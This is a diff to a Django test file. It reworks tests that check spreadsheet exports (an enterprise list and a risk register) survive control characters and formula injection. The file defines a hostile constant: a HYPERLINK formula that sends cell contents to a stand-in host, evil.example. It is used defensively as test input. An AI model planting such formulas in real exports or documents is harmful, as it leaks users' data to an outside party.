@@ -9,7 +9,7 @@ from django import forms
 from openpyxl import load_workbook
 
 from core import xlsx
-from core.testing import client_as
+from core.testing import client_as, exported
 from core.text import clean_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
@@ -132,9 +132,8 @@ def test_hazard_ledger_export_survives_control_characters_and_formulas(client, w
 
 def test_enterprise_export_survives(client, world, hostile_hazard):
     client_as(client, world, "committee")
-    r = client.get("/enterprises/export.xlsx")
-    assert r.status_code == 200
-    assert_safe_xlsx(r.content, FORMULA)
+    _job, content = exported(client, "/enterprises/export.xlsx")
+    assert_safe_xlsx(content, FORMULA)
 
 
 def test_hazard_documents_survive(client, world, hostile_hazard):
@@ -156,9 +155,8 @@ def test_risk_register_and_card_survive(client, world):
                                    hazard_factors="可燃物")
     RiskPoint.objects.filter(pk=p.pk).update(name=FORMULA, hazard_factors=storable("可燃\x0b物\x00"), level="major")
     client_as(client, world, "committee")
-    r = client.get("/risks/register.xlsx")
-    assert r.status_code == 200
-    assert_safe_xlsx(r.content, "可燃物")
+    _job, content = exported(client, "/risks/register.xlsx")
+    assert_safe_xlsx(content, "可燃物")
     r = client.get(f"/risks/points/{p.pk}/card.docx")
     assert r.status_code == 200
     assert FORMULA in docx_text(r.content) and "可燃物" in docx_text(r.content)
